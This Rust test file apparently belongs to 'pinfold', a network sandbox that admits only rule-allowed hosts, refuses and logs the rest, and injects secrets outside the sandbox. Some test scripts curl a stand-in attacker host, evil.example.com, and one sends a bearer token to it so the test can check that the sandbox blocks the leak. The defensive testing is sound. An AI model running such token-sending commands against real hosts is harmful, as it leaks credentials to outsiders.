//! The network by rules: ordinary programs reach what is allowed and nothing else, and are told what was refused.

use pinfold_tests::skip;

use crate::desk::{Desk, lacks};
use crate::traveller::Traveller;

#[test]
fn the_world_of_these_stories_is_there() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "curl -sS http://api.example.com/ && curl -sS https://evil.example.com/ && curl -sS -g 'http://[2606:2800:220:1::34]/'";
    let text = traveller.call(&["bash", "-c", script]).run().ok();
    assert_eq!(text, "api says hello\nevil says hello\nsix says hello");
}

#[test]
fn an_allowed_host_is_reached_and_another_is_refused() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "curl -sS http://api.example.com/; curl -sS https://api.example.com/; curl -sS -m 5 https://evil.example.com/; test $? -gt 0";
    let ended = traveller.inside(&["--allow-host", "api.example.com"], script).run();
    let ended = ended.says("refused: ").says("evil.example.com").says("--allow-host evil.example.com");
    assert_eq!(ended.ok(), "api says hello\napi says hello");
    assert!(!traveller.log().contains("evil"), "{}", traveller.log());
}

#[test]
fn a_refusal_is_told_of_a_program_with_any_name() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "cp $(command -v curl) $'\\xff' && ./$'\\xff' -sSf -m 5 http://93.184.216.35/; rm $'\\xff'";
    let ended = traveller.inside(&["--network", "rules"], script).run();
    ended.says("refused: ").says("--allow-host 93.184.216.35").ok();
}

#[test]
fn names_of_version_6_are_reached() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "curl -sS http://six.example.com/; curl -sS -6 http://six.example.com/";
    let text = traveller.inside(&["--allow-host", "six.example.com"], script).run().ok();
    assert_eq!(text, "six says hello\nsix says hello");
}

#[test]
fn an_address_is_reached_when_a_rule_names_it() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "curl -sS http://93.184.216.34/; curl -sSf -m 5 http://93.184.216.35/; test $? -gt 0";
    let ended = traveller.inside(&["--allow-host", "93.184.216.34"], script).run();
    assert_eq!(ended.says("--allow-host 93.184.216.35").ok(), "api says hello");
}

#[test]
fn python_and_node_need_no_proxy() {
    let Some(traveller) = Traveller::new() else { return };
    let python = "/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"https://api.example.com/\").read().decode())'";
    let flags = ["--allow-host", "api.example.com"];
    assert_eq!(traveller.inside(&flags, python).run().ok(), "api says hello");
    if lacks("node") {
        return;
    }
    let node = "node -e 'fetch(\"http://api.example.com/\").then(r => r.text()).then(t => console.log(t.trim()))'";
    assert_eq!(traveller.inside(&flags, node).run().ok(), "api says hello");
}

#[test]
fn git_clones_over_https() {
    let Some(traveller) = Traveller::new() else { return };
    let desk = &traveller.0;
    desk.outside(
        "git clone --quiet --bare . ../../world/repository.git && git -C ../../world/repository.git update-server-info",
    )
    .ok();
    let script = "git clone --quiet https://api.example.com/repository.git cloned && cat cloned/README";
    assert_eq!(traveller.inside(&["--allow-host", "api.example.com"], script).run().ok(), "a project");
}

#[test]
fn any_protocol_passes_on_an_allowed_port() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "exec 3<>/dev/tcp/api.example.com/7; echo hello >&3; read -r line <&3; echo $line; timeout 5 cat < /dev/tcp/api.example.com/22; true";
    let ended = traveller.inside(&["--allow-host", "api.example.com:7"], script).run();
    assert_eq!(ended.says("api.example.com:22").ok(), "hello");
    assert!(!traveller.log().contains("ssh"), "{}", traveller.log());
}

#[test]
fn programs_that_know_proxies_may_use_one() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "curl -sS -x http://127.0.0.1:63128 https://api.example.com/; curl -sS -x http://127.0.0.1:63128 http://api.example.com/
        curl -sS -x socks5h://127.0.0.1:63128 http://api.example.com/; curl -sS -m 5 -x http://127.0.0.1:63128 https://evil.example.com/; test $? -gt 0";
    let ended = traveller.inside(&["--allow-host", "api.example.com"], script).run();
    assert_eq!(ended.says("evil.example.com").ok(), "api says hello\n".repeat(3).trim());
    assert!(!traveller.log().contains("evil"), "{}", traveller.log());
}

#[test]
fn the_runs_own_loopback_is_untouched() {
    let Some(traveller) = Traveller::new() else { return };
    let program = "
import socket, threading
for family, address in (socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1'):
    server = socket.create_server((address, 0), family=family)
    client = socket.create_connection(server.getsockname()[:2])
    connection, _ = server.accept(); connection.sendall(b'own'); print(client.recv(9).decode())
try: socket.create_connection(('127.0.0.1', 9), timeout=2)
except ConnectionRefusedError: print('refused')
";
    traveller.0.write("home/project/own.py", program);
    let text = traveller.inside(&["--network", "rules"], "/usr/bin/python3 own.py").run().ok();
    assert_eq!(text, "own\nown\nrefused");
}

#[test]
fn what_is_no_tcp_is_refused_at_once() {
    let Some(traveller) = Traveller::new() else { return };
    let program = "
import socket, time
begin = time.monotonic()
for family, address in (socket.AF_INET, '93.184.216.34'), (socket.AF_INET6, '2606:2800:220:1::34'):
    client = socket.socket(family, socket.SOCK_DGRAM)
    try: client.sendto(b'x', (address, 443)); print('sent')
    except OSError as error: print(error.strerror)
print('at once' if time.monotonic() - begin < 1 else 'late')
";
    traveller.0.write("home/project/udp.py", program);
    let text = traveller.inside(&["--allow-host", "api.example.com:*"], "/usr/bin/python3 udp.py").run().ok();
    assert_eq!(text, "Operation not permitted\nOperation not permitted\nat once");
    assert!(!traveller.log().contains("udp quic"), "{}", traveller.log());
}

#[test]
fn a_port_of_the_host_is_let_in_by_name() {
    let Some(traveller) = Traveller::new() else { return };
    let script =
        "curl -sS http://host.pinfold.internal:8080/; curl -sSf -m 5 http://host.pinfold.internal:80/; test $? -gt 0";
    let ended = traveller.inside(&["--host-port", "8080"], script).run();
    assert_eq!(ended.says("host.pinfold.internal:80").ok(), "loopback says hello");
}

#[test]
fn requests_are_judged_where_a_rule_speaks_of_them() {
    let Some(traveller) = Traveller::new() else { return };
    let policy = "[network]\nmode = 'rules'\nallow = [{ host = 'api.example.com', methods = ['GET'], paths = ['/public/**'] }]\n";
    traveller.0.write("home/rules.toml", policy);
    let script = "curl -sS https://api.example.com/public/a; curl -sS -o /dev/null -w '%{http_code}\\n' https://api.example.com/private
        curl -sS -o /dev/null -w '%{http_code}\\n' -X POST https://api.example.com/public/a";
    let ended = traveller.inside(&["--policy", "../rules.toml"], script).run();
    assert_eq!(ended.says("POST /public/a").ok(), "api says hello\n403\n403");
    assert!(!traveller.log().contains("private") && !traveller.log().contains("POST"), "{}", traveller.log());
}

#[test]
fn a_secret_is_put_in_outside_and_never_seen_inside() {
    let Some(traveller) = Traveller::new() else { return };
    let policy = "[network]\nmode = 'rules'\nallow = ['api.example.com', 'evil.example.com']\n[secrets.token]\nfrom = { env = 'TOKEN' }\nhosts = ['api.example.com']\nin = 'header:Authorization'\n";
    traveller.0.write("home/rules.toml", policy);
    let script = "echo $TOKEN | cut -c 1-14; curl -sS -H \"Authorization: Bearer $TOKEN\" https://api.example.com/
        curl -sS -m 5 -H \"Authorization: Bearer $TOKEN\" http://evil.example.com/ > /dev/null 2>&1; true";
    let call = traveller.inside(&["--policy", "../rules.toml"], script).variable("TOKEN", "s3cr3t-value");
    let ended = call.run();
    assert_eq!(ended.text(), "pinfold-token-\napi says hello", "{ended}");
    assert!(traveller.log().contains("Bearer s3cr3t-value"), "{}", traveller.log());
    assert!(!traveller.log().contains("evil GET evil.example.com / Bearer"), "{}", traveller.log());
}

#[test]
fn a_summary_for_programs_names_what_was_reached_and_refused() {
    let Some(traveller) = Traveller::new() else { return };
    let script = "curl -sS http://api.example.com/; curl -sS -m 5 http://evil.example.com/; true";
    let ended = traveller.inside(&["--json", "--allow-host", "api.example.com"], script).run();
    ended.says(r#""reached":["api.example.com:80"]"#).says(r#""host":"evil.example.com""#).ok();
}

#[test]
fn addresses_of_version_6_are_told_in_brackets() {
    let Some(traveller) = Traveller::new() else { return };
    let script =
        "curl -sS -g 'http://[2606:2800:220:1::34]/'; curl -sSf -m 5 -g 'http://[2606:2800:220:1::35]:81/'; true";
    let inside = |flags: &[&str]| {
        let flags = [&["--allow-host", "2606:2800:220:1::34"], flags].concat();
        traveller.inside(&flags, script).run()
    };
    let ended = inside(&["--json"]).says(r#""reached":["[2606:2800:220:1::34]:80"]"#);
    assert_eq!(ended.says("--allow-host '[2606:2800:220:1::35]:81'").ok(), "six says hello");
    inside(&[]).says("refused: ").says("[2606:2800:220:1::35]:81\n").ok();
}

/// Rules and a secret that make the gate look into connections to the host.
pub(crate) const INSPECTING: &str = "[network]
mode = 'rules'
allow = ['api.example.com', 'evil.example.com']
[secrets.token]
from = { env = 'TOKEN' }
hosts = ['api.example.com']
in = 'header:Authorization'
";

#[test]
fn programs_trust_what_the_gate_signs() {
    let Some(traveller) = Traveller::new() else { return };
    let desk = &traveller.0;
    desk.outside(
        "git clone --quiet --bare . ../../world/repository.git && git -C ../../world/repository.git update-server-info",
    )
    .ok();
    desk.write("home/rules.toml", INSPECTING);
    let issuer = "curl -sSv https://api.example.com/ 2>&1 | grep -c 'issuer:.*World'";
    let python = "/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"https://api.example.com/\").read().decode().strip())'";
    let git = "git clone --quiet https://api.example.com/repository.git cloned && cat cloned/README";
    let script = format!("{issuer}; {python}; {git}");
    let inside =
        |script: &str| traveller.inside(&["--policy", "../rules.toml"], script).variable("TOKEN", "value").run();
    assert_eq!(inside(&script).ok(), "0\napi says hello\na project");
    if lacks("node") {
        return;
    }
    let node = "node -e 'fetch(\"https://api.example.com/\").then(r => r.text()).then(t => console.log(t.trim()))'";
    assert_eq!(inside(node).ok(), "api says hello");
}

#[test]
fn a_secret_comes_from_a_file_or_a_program_outside() {
    let Some(traveller) = Traveller::new() else { return };
    traveller.0.write("home/token", "from-a-file\n");
    let script =
        "curl -sS -H \"Authorization: Bearer $TOKEN\" https://api.example.com/; cat ~/token 2> /dev/null; true";
    for (from, value) in
        [("file = '~/token'", "from-a-file"), ("command = ['printf', 'from-a-program']", "from-a-program")]
    {
        let source = INSPECTING.replace("env = 'TOKEN'", from) + "env = 'TOKEN'\n";
        traveller.0.write("home/rules.toml", source);
        // What the caller has under that name stays outside as well.
        let call = traveller.inside(&["--policy", "../rules.toml", "--env", "TOKEN"], script);
        let text = call.variable("TOKEN", "another").run().ok();
        assert_eq!(text, "api says hello", "{from}");
        assert!(traveller.log().contains(&format!("Bearer {value} ")), "{}", traveller.log());
    }
}

#[test]
fn a_secret_without_a_value_refuses_the_run() {
    let desk = Desk::new();
    for (from, why) in [
        ("env = 'NOT_SET'", "NOT_SET is not set"),
        ("file = '~/missing'", "missing"),
        ("command = ['false']", "exit status: 1"),
        ("keyring = 'token'", "secret-tool"),
    ] {
        desk.write("home/rules.toml", INSPECTING.replace("env = 'TOKEN'", from) + "env = 'TOKEN'\n");
        let ended = desk.inside_with(&["--policy", "../rules.toml"], "touch ran");
        ended.ends_with(125).says("the secret `token` has no value").says(why).says("secrets.token");
    }
    assert_eq!(desk.outside("ls ran 2> /dev/null; true").ok(), "");
}

#[test]
fn the_proxy_of_a_company_is_used_by_the_gate_and_not_inside() {
    let Some(traveller) = Traveller::new() else { return };
    let script =
        "curl -sS https://api.example.com/; env | grep -ci proxy=; curl -sSf -m 5 http://evil.example.com/; true";
    let call = traveller.inside(&["--allow-host", "api.example.com", "--env", "*_proxy"], script);
    let ended = call.variable("https_proxy", "http://ada:secret@10.9.8.7:3128").run();
    assert_eq!(ended.ok(), "api says hello\n0");
    let log = traveller.log();
    assert!(log.contains("upstream CONNECT api.example.com:443") && log.contains("Basic YWRhOnNlY3JldA=="), "{log}");
    assert!(!log.contains("evil"), "{log}");
}

#[test]
fn a_database_is_reached_on_its_port() {
    let Some(traveller) = Traveller::new() else { return };
    let servers = std::fs::read_dir("/usr/lib/postgresql").into_iter().flatten().flatten();
    let Some(programs) = servers.map(|entry| entry.path().join("bin")).find(|path| path.join("postgres").exists())
    else {
        return skip("there is no PostgreSQL here");
    };
    // PostgreSQL does not run as root, so that root is called otherwise for it.
    let renamed = if traveller.0.user.is_root() { "unshare --user --map-user=1000 --" } else { "" };
    let script = format!(
        "cd $WORLD && {renamed} {bin}/initdb -N -D db -A trust -U ada > /dev/null && echo 'host all all all trust' >> db/pg_hba.conf && {{ {renamed} {bin}/postgres -D db -k $WORLD -h 93.184.216.34 2> /dev/null & }}
        for i in $(seq 100); do psql -h $WORLD -U ada -d postgres -c 'select 1' > /dev/null 2>&1 && break; sleep 0.1; done
        cd $FROM; pinfold run --allow-host api.example.com:5432 -- psql -h api.example.com -U ada -d postgres -Atc 'select 6 * 7'
        kill -INT %1; wait",
        bin = programs.display()
    );
    assert_eq!(traveller.call(&["bash", "-c", &script]).run().ok(), "42");
}

#[test]
fn hundreds_of_connections_at_a_time_are_carried() {
    let Some(traveller) = Traveller::new() else { return };
    let program = "
import socket
held = [socket.create_connection(('api.example.com', 7), timeout=10) for _ in range(400)]
for number, connection in enumerate(held): connection.sendall(str(number).encode())
print(all(connection.recv(9).decode() == str(number) for number, connection in enumerate(held)))
";
    traveller.0.write("home/project/many.py", program);
    let text = traveller.inside(&["--allow-host", "api.example.com:7"], "/usr/bin/python3 many.py").run().ok();
    assert_eq!(text, "True");
}

/// Starts a program that can make no socket of netfilter: where a kernel has no nf_tables, or a container forbids them.
const WITHOUT_NETFILTER: &str = "
import ctypes, os, platform, struct, sys
call = {'x86_64': 41, 'aarch64': 198}[platform.machine()]
steps = [(0x20, 0, 0, 0), (0x15, 0, 5, call), (0x20, 0, 0, 16), (0x15, 0, 3, 16), (0x20, 0, 0, 32), (0x15, 0, 1, 12),
         (0x06, 0, 0, 0x50000 | 93), (0x06, 0, 0, 0x7fff0000)]
code = ctypes.create_string_buffer(b''.join(struct.pack('HBBI', *step) for step in steps))
program = ctypes.create_string_buffer(struct.pack('HxxxxxxP', len(steps), ctypes.addressof(code)))
libc = ctypes.CDLL(None)
assert libc.prctl(38, 1, 0, 0, 0) == 0 and libc.prctl(22, 2, program, 0, 0) == 0
os.execvp(sys.argv[1], sys.argv[1:])
";

#[test]
fn without_nf_tables_programs_that_use_the_proxy_are_served() {
    let Some(traveller) = Traveller::new() else { return };
    let inside = |words: &[&str]| traveller.call(&["/usr/bin/python3", "-c", WITHOUT_NETFILTER]).arguments(words).run();
    let flags = ["--allow-host", "api.example.com"];
    let script = "curl -sS https://api.example.com/; curl -sS http://api.example.com/; curl -sS -m 5 --noproxy '*' http://api.example.com/ || echo no way
        curl -sSf -m 5 https://evil.example.com/; true";
    let ended = inside(&[&["pinfold", "run"], &flags[..], &["--", "bash", "-c", script]].concat());
    assert_eq!(ended.says("evil.example.com").ok(), "api says hello\napi says hello\nno way");
    assert!(!traveller.log().contains("evil"), "{}", traveller.log());
    assert!(inside(&[&["pinfold", "plan"], &flags[..]].concat()).ok().contains("proxy only"));
}
